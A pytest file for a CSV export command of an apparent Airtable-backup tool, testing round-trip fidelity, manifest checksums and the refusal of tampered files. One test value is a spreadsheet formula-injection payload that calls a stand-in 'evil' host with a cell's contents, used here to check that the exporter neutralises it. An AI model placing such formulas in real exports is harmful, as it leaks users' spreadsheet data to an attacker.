"""`podium airtable export --format csv`: a spreadsheet-readable backup that reads back exactly."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from podium.adapters.airtable.csv_snapshot import read_csv_table, read_csv_tables, write_csv_table
from podium.adapters.airtable.snapshot import SnapshotSource
from podium.cli import main
from podium.domain.backfill import SourceError, SourceRecord, SourceTable, read_source
from podium.testing.fake_airtable import FakeAirtable
from podium.testing.synthetic_airtable import DEFAULT_BASE_ID, DEFAULT_TABLE_IDS, SyntheticBase


@pytest.fixture
def fake(small_base: SyntheticBase) -> Iterator[FakeAirtable]:
    with FakeAirtable({DEFAULT_BASE_ID: small_base.by_table_id()}) as server:
        yield server


def environment(fake: FakeAirtable, data_dir: Path) -> dict[str, str]:
    env = {
        "PODIUM_DATA_DIR": str(data_dir),
        "PODIUM_AIRTABLE_TOKEN": fake.token,
        "PODIUM_AIRTABLE_BASE_ID": DEFAULT_BASE_ID,
        "PODIUM_AIRTABLE_ENDPOINT_URL": fake.url,
    }
    for table, table_id in DEFAULT_TABLE_IDS.items():
        env[f"PODIUM_AIRTABLE_{str(table).upper()}_TABLE_ID"] = table_id
    return env


def test_the_csv_files_read_back_as_the_json_snapshot(
    fake: FakeAirtable, small_base: SyntheticBase, tmp_path: Path
) -> None:
    both, csv_only = tmp_path / "both", tmp_path / "csv"
    runner = CliRunner()
    env = environment(fake, tmp_path / "data")
    result = runner.invoke(
        main, ["airtable", "export", str(both), "--format", "json", "--format", "csv"], env=env
    )
    assert result.exit_code == 0, result.output
    assert "(JSON and CSV; sha256 sums in manifest.json)" in result.stdout
    result = runner.invoke(main, ["airtable", "export", str(csv_only), "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    assert not list(csv_only.glob("*.json.tmp"))
    assert not (csv_only / "users.json").exists()

    from_json = asyncio.run(read_source(SnapshotSource(both)))
    assert from_json == small_base.source_records()
    assert read_csv_tables(both) == from_json
    assert read_csv_tables(csv_only) == from_json

    manifest = json.loads((both / "manifest.json").read_text())
    assert manifest["formats"] == ["json", "csv"]
    assert manifest["counts"] == {str(t): len(rows) for t, rows in small_base.records.items()}
    for name in [f"{t}.{ext}" for t in SourceTable for ext in ("json", "csv")]:
        entry = manifest["files"][name]
        assert entry["sha256"] == hashlib.sha256((both / name).read_bytes()).hexdigest()
        assert entry["records"] == manifest["counts"][entry["table"]]


def test_the_csv_is_what_a_spreadsheet_user_expects(
    fake: FakeAirtable, small_base: SyntheticBase, tmp_path: Path
) -> None:
    result = CliRunner().invoke(
        main, ["airtable", "export", str(tmp_path), "--format", "csv"], env=environment(fake, tmp_path / "d")
    )
    assert result.exit_code == 0, result.output
    with (tmp_path / "events.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    header = list(rows[0])
    assert header[:2] == ["id", "createdTime"]
    raw = small_base.records[SourceTable.EVENTS]
    assert set(header[2:]) == {name for record in raw for name in record["fields"]}
    by_id = {row["id"]: row for row in rows}
    with_attendees = next(r for r in raw if len(r["fields"].get("attendees", [])) > 1)
    # Linked records: the record ids, comma-separated.
    assert by_id[with_attendees["id"]]["attendees"] == ",".join(with_attendees["fields"]["attendees"])
    assert by_id[with_attendees["id"]]["createdTime"] == with_attendees["createdTime"]
    with (tmp_path / "projects.csv").open(newline="", encoding="utf-8") as handle:
        projects = {row["id"]: row for row in csv.DictReader(handle)}
    # JSON-in-text is kept as the text it is.
    quality = next(
        r for r in small_base.records[SourceTable.PROJECTS] if "cached_auto_quality" in r["fields"]
    )
    assert projects[quality["id"]]["cached_auto_quality"] == quality["fields"]["cached_auto_quality"]


def test_every_awkward_value_survives_the_csv(tmp_path: Path) -> None:
    records = [
        SourceRecord(
            "recA", "2024-01-01T00:00:00.000Z", {"name": "plain", "links": ["recX", "recY"], "n": 3}
        ),
        SourceRecord("recB", "2024-01-02T00:00:00.000Z", {"name": "", "links": [], "n": 3.0}),
        SourceRecord(
            "recC", "2024-01-03T00:00:00.000Z", {"name": ["a", "b"], "links": ["rec,comma"], "n": True}
        ),
        SourceRecord("recD", "", {"name": 'line\r\nbreak, "quoted" and NUL\x00', "links": "text", "n": "7"}),
        SourceRecord(
            "recE", "2024-01-05T00:00:00.000Z", {"name": "   ", "extra": {"url": "x", "n": [1, None]}}
        ),
        SourceRecord("recF", "2024-01-06T00:00:00.000Z", {}),
        SourceRecord(
            "recG", "2024-01-07T00:00:00.000Z", {"name": '{"valid": true}', "links": ["r"], "n": -1}
        ),
        SourceRecord("recH", "2024-01-08T00:00:00.000Z", {"name": ' =HYPERLINK("http://evil/"&A1)'}),
    ]
    path = tmp_path / "t.csv"
    entry = write_csv_table(path, records)
    assert dict(map(tuple, entry["columns"])) == {
        "name": "text",
        "links": "list",
        "n": "json",
        "extra": "json",
    }
    # Only the cells a plain cell cannot carry are listed, each with its exact value.
    assert {(rec, name) for rec, name, _ in entry["exceptions"]} == {
        ("recB", "name"),
        ("recB", "links"),
        ("recC", "name"),
        ("recC", "links"),
        ("recD", "links"),
        ("recD", "n"),
        # Shown with an apostrophe, so no spreadsheet runs them (issue 22 item 8); kept exactly here.
        ("recG", "n"),
        ("recH", "name"),
    }
    with path.open(encoding="utf-8", newline="") as handle:
        cells = {row[0]: row for row in csv.reader(handle)}
    assert cells["recH"][2] == '\' =HYPERLINK("http://evil/"&A1)'
    back = read_csv_table(path, json.loads(json.dumps(entry)))
    assert back == records
    assert [type(r.fields.get("n")) for r in back] == [
        int,
        float,
        bool,
        str,
        type(None),
        type(None),
        int,
        type(None),
    ]


def test_a_changed_csv_file_is_refused(fake: FakeAirtable, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        main, ["airtable", "export", str(tmp_path), "--format", "csv"], env=environment(fake, tmp_path / "d")
    )
    assert result.exit_code == 0, result.output
    users = tmp_path / "users.csv"
    users.write_bytes(users.read_bytes().replace(b"@", b"#", 1))
    with pytest.raises(SourceError, match="sha256"):
        read_csv_tables(tmp_path)


def test_the_backfill_refuses_a_csv_only_export_with_a_clear_message(
    fake: FakeAirtable, tmp_path: Path
) -> None:
    env = environment(fake, tmp_path / "d")
    assert (
        CliRunner().invoke(main, ["airtable", "export", str(tmp_path), "--format", "csv"], env=env).exit_code
        == 0
    )
    with pytest.raises(SourceError, match="--format json"):
        SnapshotSource(tmp_path)


def test_a_json_file_changed_after_the_export_is_refused(fake: FakeAirtable, tmp_path: Path) -> None:
    env = environment(fake, tmp_path / "d")
    assert CliRunner().invoke(main, ["airtable", "export", str(tmp_path)], env=env).exit_code == 0
    users = tmp_path / "users.json"
    users.write_bytes(users.read_bytes().replace(b"@", b"#", 1))
    with pytest.raises(SourceError, match="sha256"):
        asyncio.run(read_source(SnapshotSource(tmp_path)))
